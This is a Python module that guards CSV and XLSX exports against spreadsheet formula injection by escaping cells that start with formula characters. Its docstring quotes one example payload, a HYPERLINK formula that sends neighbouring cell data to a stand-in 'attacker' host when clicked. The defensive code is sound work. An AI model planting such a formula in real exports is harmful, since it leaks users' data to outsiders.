"""Rows for CSV and XLSX files that spreadsheet programs open without running anything a user typed.

A cell that starts with = + - @ (or a tab or carriage return before one) is a formula to Excel, LibreOffice and
Numbers: `=HYPERLINK("http://attacker/?"&C2,"Open")` in a customer's name would send the neighbouring cells away
when clicked. Every export (customer lists, import error reports, the tenant export) writes its rows through here.
CSV follows OWASP's CSV-injection advice: such a value gets a leading single quote. XLSX cells are typed, so the
value is kept whole in a text cell marked `quotePrefix`, which is what Excel itself stores when someone types a
leading apostrophe: it shows the text as typed and keeps it text even when the cell is edited.
"""
from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# a bare signed number ("-12.50", "+8613800138000") cannot hold a formula: it is left as it is
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?", re.ASCII)


def _is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value)


def csv_cell(value):
    return "'" + value if _is_formula_like(value) else value


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]


def xlsx_row(sheet, values) -> list:
    """Cells for `sheet.append` on a write-only openpyxl sheet: strings never become formulas."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    out = []
    for value in values:
        if isinstance(value, str):
            # control characters XML cannot hold would make openpyxl refuse the whole file
            value = ILLEGAL_CHARACTERS_RE.sub("", value)
            if _is_formula_like(value):
                cell = WriteOnlyCell(sheet, value=value)
                cell.data_type, cell.quotePrefix = "s", True
                value = cell
        out.append(value)
    return out
